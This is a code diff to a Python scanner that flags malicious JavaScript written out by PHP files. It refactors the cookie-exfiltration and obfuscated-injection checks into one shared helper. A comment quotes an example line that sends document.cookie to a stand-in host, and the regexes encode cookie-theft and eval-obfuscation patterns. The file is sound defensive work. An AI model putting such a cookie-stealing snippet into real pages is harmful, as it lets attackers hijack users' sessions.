@@ -257,6 +257,14 @@ def _antibot_gate(ctx: Ctx, rule: Rule) -> Hit | None:
 
 
 # -------------------------------------------------------------- JavaScript written by PHP
+def _in_page_text(ctx: Ctx, rx: re.Pattern[bytes]) -> Hit | None:
+    """A match of ``rx`` in the text the file outputs or holds (literals, inline HTML)."""
+    m = rx.search(string_text(ctx))
+    if m is None:
+        return None
+    return Hit(ctx.line_of_string(max(0, string_at(ctx, m.start()))), excerpt(m.group(0)))
+
+
 # the cookies glued into an address: new Image().src = 'http://x/?c=' + escape(document.cookie)
 _COOKIE_EXFIL = re.compile(
     rb"(?:https?:)?//[^\x00'\"\s]{3,200}['\"]\s*\+\s*(?:(?:escape|encodeuricomponent|btoa)\s*\(\s*)?"
@@ -271,11 +279,7 @@ def _js_cookie_exfil(ctx: Ctx, rule: Rule) -> Hit | None:
     third party. (Scripts that read or set their own cookie do not build an address.)"""
     if ctx.data.find(b"document.cookie") < 0:
         return None
-    text = string_text(ctx)
-    m = _COOKIE_EXFIL.search(text)
-    if m is None:
-        return None
-    return Hit(ctx.line_of_string(max(0, string_at(ctx, m.start()))), excerpt(m.group(0)))
+    return _in_page_text(ctx, _COOKIE_EXFIL)
 
 
 # obfuscated JavaScript run in the page: eval(String.fromCharCode(...)), document.write(
@@ -297,11 +301,7 @@ def _js_obfuscated_inject(ctx: Ctx, rule: Rule) -> Hit | None:
     data = ctx.data
     if not any(data.find(w) >= 0 for w in _JS_WORDS) or data.find(b"<script") < 0:
         return None
-    text = string_text(ctx)
-    m = _JS_OBFUSCATED.search(text)
-    if m is None:
-        return None
-    return Hit(ctx.line_of_string(max(0, string_at(ctx, m.start()))), excerpt(m.group(0)))
+    return _in_page_text(ctx, _JS_OBFUSCATED)
 
 
 # --------------------------------------------------------------------- search-referer redirect
